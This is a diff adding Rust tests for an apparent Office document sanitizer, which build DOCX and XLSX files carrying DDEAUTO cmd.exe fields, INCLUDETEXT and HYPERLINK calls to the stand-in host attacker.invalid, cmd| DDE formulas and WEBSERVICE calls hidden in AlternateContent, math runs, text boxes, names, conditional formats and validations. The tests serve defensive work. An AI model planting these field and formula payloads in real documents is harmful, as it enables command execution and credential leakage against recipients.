@@ -176,7 +176,7 @@ fn removes_vba_xlm_sheet_dde_and_external_links_from_a_workbook() {
         (What::ExternalReference, "externalLink1.xml"),
         (What::DataConnection, "connections.xml"),
         (What::Field, "cmd|"),
-        (What::Field, "[1]Sheet1"),
+        (What::ExternalReference, "[1]Sheet1"),
     ] {
         assert!(
             removed(&outcome, what, needle),
@@ -449,4 +449,294 @@ fn quarantines_a_macro_sheet_still_used_by_a_large_sheet_rewritten_in_parallel()
     assert_eq!(outcome.report.verdict, Verdict::Quarantined);
     assert!(outcome.output().is_none());
     assert_eq!(outcome.report.reason.unwrap().code, "unsupported");
+}
+
+// ---------------------------------------------------------------------------------------------
+// Issue #20, class 3: fields inside mc:AlternateContent, Office Math runs and nested stories.
+// ---------------------------------------------------------------------------------------------
+
+/// A marker carried by every hostile field and formula below: it must not survive anywhere.
+const MARK: &str = "MUKAIKA-MARK";
+
+/// A Word document that also binds the markup-compatibility, w14, math and VML namespaces.
+fn word_document_mc(body: &str) -> String {
+    format!("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><w:document xmlns:w=\"{W}\" xmlns:r=\"{R_OFFICE}\" xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" xmlns:w14=\"http://schemas.microsoft.com/office/word/2010/wordml\" xmlns:m=\"http://schemas.openxmlformats.org/officeDocument/2006/math\" xmlns:v=\"urn:schemas-microsoft-com:vml\" mc:Ignorable=\"w14\"><w:body>{body}<w:sectPr/></w:body></w:document>")
+}
+
+fn docx_of(body: &str) -> Vec<u8> {
+    Ooxml::default()
+        .part("word/document.xml", DOCX_MAIN, word_document_mc(body))
+        .rel("", "rId1", "officeDocument", "word/document.xml", false)
+        .build()
+}
+
+/// A complex field's pieces (begin, instruction, separate, result, end) as bare run content.
+fn field_chars(instr: &str, result: &str) -> String {
+    format!("<w:fldChar w:fldCharType=\"begin\"/><w:instrText xml:space=\"preserve\"> {instr} </w:instrText><w:fldChar w:fldCharType=\"separate\"/><w:t>{result}</w:t><w:fldChar w:fldCharType=\"end\"/>")
+}
+
+fn dde(n: u32) -> String {
+    format!("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k {MARK}-{n}\"")
+}
+
+fn include(n: u32) -> String {
+    format!("INCLUDETEXT &quot;\\\\\\\\attacker.invalid\\\\{MARK}-{n}.docx&quot;")
+}
+
+/// Sanitizes a hostile document and checks the output everywhere: the marker and the field
+/// words are gone from every part, the kept text is there, and a second pass removes nothing.
+fn assert_fields_gone(name: &str, input: &[u8], kept: &[&str]) -> mukaika_sanitizers::Outcome {
+    let outcome = assert_fail_closed(name, input);
+    let out = outcome.output().unwrap().bytes();
+    for needle in [MARK, "DDEAUTO", "INCLUDETEXT"] {
+        assert_eq!(
+            zip_members_containing(out, needle),
+            Vec::<String>::new(),
+            "{name}: {needle} survives; report {:#?}",
+            outcome.report.removed
+        );
+    }
+    let doc = zip_text(out, "word/document.xml").unwrap();
+    for text in kept {
+        assert!(doc.contains(text), "{name}: {text} lost: {doc}");
+    }
+    assert_second_pass_removes_nothing(&outcome);
+    outcome
+}
+
+#[test]
+fn removes_fields_inside_alternate_content_branches() {
+    // Word reads the Choice (it knows w14); another reader reads the Fallback. At run level
+    // each branch holds bare run content — a whole complex field, or a simple field — that a
+    // walk looking only at w:r children never sees; at paragraph level each holds runs.
+    let body = format!(
+        "<w:p><w:r><mc:AlternateContent><mc:Choice Requires=\"w14\">{}</mc:Choice><mc:Fallback><w:fldSimple w:instr=\" {} \"><w:r><w:t>代替の結果</w:t></w:r></w:fldSimple></mc:Fallback></mc:AlternateContent></w:r></w:p>\
+         <w:p><mc:AlternateContent><mc:Choice Requires=\"w14\"><w:fldSimple w:instr=\" {} \"><w:r><w:t>単純の結果</w:t></w:r></w:fldSimple><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> {} </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></mc:Choice><mc:Fallback><w:r><w:t>段落の代替</w:t></w:r></mc:Fallback></mc:AlternateContent></w:p>{}",
+        field_chars(&dde(1), "選択肢の結果"),
+        include(2),
+        include(3),
+        dde(4),
+        para("本文"),
+    );
+    let outcome = assert_fields_gone(
+        "代替.docx",
+        &docx_of(&body),
+        &[
+            "選択肢の結果",
+            "代替の結果",
+            "単純の結果",
+            "段落の代替",
+            "本文",
+            "mc:Choice",
+            "mc:Fallback",
+        ],
+    );
+    for n in 1..=4 {
+        assert!(
+            removed(&outcome, What::Field, &format!("{MARK}-{n}")),
+            "field {n}: {:#?}",
+            outcome.report.removed
+        );
+    }
+}
+
+#[test]
+fn removes_fields_inside_office_math_runs() {
+    let math_run = |inner: &str| format!("<m:r>{inner}</m:r>");
+    let body = format!(
+        "<w:p><m:oMathPara><m:oMath>{}{}{}{}{}<m:r><m:t>x=1</m:t></m:r></m:oMath></m:oMathPara></w:p>",
+        math_run("<w:fldChar w:fldCharType=\"begin\"/>"),
+        math_run(&format!("<w:instrText xml:space=\"preserve\"> {} </w:instrText>", dde(5))),
+        math_run("<w:fldChar w:fldCharType=\"separate\"/>"),
+        math_run("<m:t>数式の結果</m:t>"),
+        math_run("<w:fldChar w:fldCharType=\"end\"/>"),
+    );
+    let outcome = assert_fields_gone("数式.docx", &docx_of(&body), &["数式の結果", "x=1"]);
+    assert!(
+        removed(&outcome, What::Field, "DDEAUTO"),
+        "{:#?}",
+        outcome.report.removed
+    );
+}
+
+#[test]
+fn removes_fields_in_a_text_box_inside_a_run() {
+    let body = format!(
+        "<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> {} </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>枠内の結果</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>",
+        dde(6),
+    );
+    let outcome = assert_fields_gone("枠.docx", &docx_of(&body), &["枠内の結果", "txbxContent"]);
+    assert!(removed(&outcome, What::Field, "DDEAUTO"));
+}
+
+#[test]
+fn quarantines_a_field_left_open_inside_an_alternate_content_branch() {
+    // Which runs a reader joins to a field opened in a branch is not ours to guess: a field
+    // must open and close inside one story, or the document waits in quarantine.
+    let body = format!(
+        "<w:p><w:r><mc:AlternateContent><mc:Choice Requires=\"w14\"><w:fldChar w:fldCharType=\"begin\"/><w:instrText> {} </w:instrText></mc:Choice><mc:Fallback><w:t>x</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>{}",
+        dde(7),
+        para("本文"),
+    );
+    let outcome = process(&docx_of(&body), "open.docx");
+    assert_eq!(
+        outcome.report.verdict,
+        Verdict::Quarantined,
+        "{:#?}",
+        outcome.report.removed
+    );
+    assert!(outcome.output().is_none());
+    assert_eq!(outcome.report.reason.unwrap().code, "malformed");
+}
+
+// ---------------------------------------------------------------------------------------------
+// Issue #20, class 4: formulas wherever a workbook keeps them.
+// ---------------------------------------------------------------------------------------------
+
+const S: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
+const WORKSHEET: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml";
+
+/// A one-sheet workbook with the given defined names and worksheet body.
+fn xlsx_of(names: &str, sheet_body: &str) -> Vec<u8> {
+    let workbook = format!("<workbook xmlns=\"{S}\" xmlns:r=\"{R_OFFICE}\"><sheets><sheet name=\"データ\" sheetId=\"1\" r:id=\"rId1\"/></sheets>{names}</workbook>");
+    let sheet = format!("<worksheet xmlns=\"{S}\" xmlns:r=\"{R_OFFICE}\" xmlns:x14=\"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main\" xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\">{sheet_body}</worksheet>");
+    Ooxml::default()
+        .part("xl/workbook.xml", XLSX_MAIN, workbook)
+        .part("xl/worksheets/sheet1.xml", WORKSHEET, sheet)
+        .rel("", "rId1", "officeDocument", "xl/workbook.xml", false)
+        .rel(
+            "xl/workbook.xml",
+            "rId1",
+            "worksheet",
+            "worksheets/sheet1.xml",
+            false,
+        )
+        .build()
+}
+
+/// Sanitizes a workbook and checks no part of the output holds the marker, and that a second
+/// pass removes nothing.
+fn assert_formulas_gone(name: &str, input: &[u8]) -> mukaika_sanitizers::Outcome {
+    let outcome = assert_fail_closed(name, input);
+    let out = outcome.output().unwrap().bytes();
+    assert_eq!(
+        zip_members_containing(out, MARK),
+        Vec::<String>::new(),
+        "{name}: the marker survives; report {:#?}",
+        outcome.report.removed
+    );
+    assert_second_pass_removes_nothing(&outcome);
+    outcome
+}
+
+#[test]
+fn removes_a_dde_call_behind_a_double_quote_in_a_quoted_sheet_name() {
+    // The `"` inside the quoted sheet name once opened a "string" that swallowed the `|`.
+    let sheet = format!(
+        "<sheetData><row r=\"1\"><c r=\"A1\"><f>'a\"b'!A1&amp;cmd|'/c {MARK}'!A0</f><v>7</v></c><c r=\"B1\"><f>'it''s \"x'!A1&amp;\"\"\"\"&amp;cmd|'/c {MARK}'!A0</f><v>8</v></c><c r=\"C1\"><f>'a\"b'!A1&amp;\"x|y\"</f><v>9</v></c></row></sheetData>"
+    );
+    let outcome = assert_formulas_gone("引用.xlsx", &xlsx_of("", &sheet));
+    assert!(
+        removed(&outcome, What::Field, "cell A1"),
+        "{:#?}",
+        outcome.report.removed
+    );
+    assert!(removed(&outcome, What::Field, "cell B1"));
+    let out = zip_text(
+        outcome.output().unwrap().bytes(),
+        "xl/worksheets/sheet1.xml",
+    )
+    .unwrap();
+    assert!(
+        out.contains("<c r=\"A1\"><v>7</v></c>") && out.contains("<c r=\"B1\"><v>8</v></c>"),
+        "cached values stay: {out}"
+    );
+    assert!(
+        out.contains("&amp;\"x|y\"</f>"),
+        "a `|` inside a string is not DDE: {out}"
+    );
+}
+
+#[test]
+fn removes_outside_formulas_from_cells_validation_conditional_formats_extensions_and_names() {
+    let names = format!(
+        "<definedNames>\
+         <definedName name=\"外部\">[1]Sheet1!$A$1+LEN(\"{MARK}-n1\")</definedName>\
+         <definedName name=\"実行\">cmd|'/c {MARK}-n2'!A0</definedName>\
+         <definedName name=\"ウェブ\">_xlfn.WEBSERVICE(\"http://{MARK}-n3.invalid/\")</definedName>\
+         <definedName name=\"他ファイル\">'file:///C:/{MARK}-n4.ods'#$Sheet1.A1</definedName>\
+         <definedName name=\"集計範囲\">'データ'!$A$1:$A$3</definedName>\
+         </definedNames>"
+    );
+    let sheet = format!(
+        "<sheetData>\
+         <row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>売上（架空）</t></is></c><c r=\"B1\"><v>100</v></c>\
+         <c r=\"D1\" t=\"str\"><f>HYPERLINK(\"file:///C:/{MARK}-c1/x.exe\",\"開く\")</f><v>開く</v></c>\
+         <c r=\"E1\" t=\"str\"><f>_xlfn.WEBSERVICE(\"http://{MARK}-c2.invalid/\")</f><v>応答</v></c>\
+         <c r=\"F1\"><f>SUM(B1:B1)</f><v>100</v></c></row>\
+         <row r=\"2\"><c r=\"A2\"><f t=\"shared\" ref=\"A2:A3\" si=\"0\">'[1]{MARK}-c3'!A1</f><v>1</v></c><c r=\"B2\"><f t=\"shared\" ref=\"B2:B3\" si=\"1\">B1*2</f><v>200</v></c></row>\
+         <row r=\"3\"><c r=\"A3\"><f t=\"shared\" si=\"0\"/><v>2</v></c><c r=\"B3\"><f t=\"shared\" si=\"1\"/><v>400</v></c></row>\
+         </sheetData>\
+         <conditionalFormatting sqref=\"B1\"><cfRule type=\"expression\" priority=\"1\"><formula>_xlfn._xlws.FILTERXML(\"&lt;a&gt;{MARK}-f1&lt;/a&gt;\",\"//a\")=\"x\"</formula></cfRule></conditionalFormatting>\
+         <conditionalFormatting sqref=\"B2\"><cfRule type=\"colorScale\" priority=\"2\"><colorScale><cfvo type=\"formula\" val=\"[1]{MARK}!A1\"/><cfvo type=\"max\"/><color rgb=\"FFFF0000\"/><color rgb=\"FF00FF00\"/></colorScale></cfRule></conditionalFormatting>\
+         <conditionalFormatting sqref=\"F1\"><cfRule type=\"expression\" priority=\"3\"><formula>F1&gt;10</formula></cfRule></conditionalFormatting>\
+         <dataValidations count=\"2\"><dataValidation type=\"list\" allowBlank=\"1\" sqref=\"G1\"><formula1>'[1]{MARK}-v1'!$A$1:$A$3</formula1></dataValidation><dataValidation type=\"list\" sqref=\"G2\"><formula1>\"はい,いいえ\"</formula1></dataValidation></dataValidations>\
+         <extLst>\
+         <ext uri=\"{{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}}\"><x14:dataValidations count=\"1\"><x14:dataValidation type=\"list\"><x14:formula1><xm:f>cmd|'/c {MARK}-x1'!A0</xm:f></x14:formula1><xm:sqref>H1</xm:sqref></x14:dataValidation></x14:dataValidations></ext>\
+         <ext uri=\"{{78C0D931-6437-407d-A8EE-F0AAD7539E65}}\"><x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type=\"expression\" priority=\"4\" id=\"{{00000000-0000-0000-0000-000000000001}}\"><xm:f>HYPERLINK(\"\\\\attacker.invalid\\{MARK}-x2\")</xm:f></x14:cfRule><xm:sqref>H2</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext>\
+         </extLst>"
+    );
+    let outcome = assert_formulas_gone("集計.xlsx", &xlsx_of(&names, &sheet));
+    for (what, needle) in [
+        (What::ExternalReference, "name 外部"),
+        (What::Field, "name 実行"),
+        (What::DataConnection, "name ウェブ"),
+        (What::ExternalReference, "name 他ファイル"),
+        (What::Hyperlink, "cell D1"),
+        (What::DataConnection, "cell E1"),
+        (What::ExternalReference, "cell A2"),
+        (What::DataConnection, "conditional format B1"),
+        (What::ExternalReference, "conditional format B2"),
+        (What::ExternalReference, "data validation G1"),
+        (What::Field, "data validation H1"),
+        (What::Hyperlink, "conditional format H2"),
+    ] {
+        assert!(
+            removed(&outcome, what, needle),
+            "missing {what:?} {needle}: {:#?}",
+            outcome.report.removed
+        );
+    }
+    assert_eq!(
+        outcome.report.removed.len(),
+        12,
+        "{:#?}",
+        outcome.report.removed
+    );
+    let out = outcome.output().unwrap().bytes();
+    let wb = zip_text(out, "xl/workbook.xml").unwrap();
+    assert!(wb.contains("集計範囲") && !wb.contains("外部"), "{wb}");
+    let ws = zip_text(out, "xl/worksheets/sheet1.xml").unwrap();
+    for kept in [
+        "<c r=\"D1\" t=\"str\"><v>開く</v></c>",
+        "<c r=\"E1\" t=\"str\"><v>応答</v></c>",
+        "<c r=\"A2\"><v>1</v></c>",
+        "<c r=\"A3\"><v>2</v></c>",
+        "<f t=\"shared\" si=\"1\"/><v>400</v>",
+        "SUM(B1:B1)",
+        "F1&gt;10",
+        "\"はい,いいえ\"",
+    ] {
+        assert!(ws.contains(kept), "{kept} lost: {ws}");
+    }
+    for gone in [
+        "sqref=\"B1\"",
+        "sqref=\"B2\"",
+        "sqref=\"G1\"",
+        "count=",
+        "extLst",
+        "x14:",
+    ] {
+        assert!(!ws.contains(gone), "{gone} left: {ws}");
+    }
 }
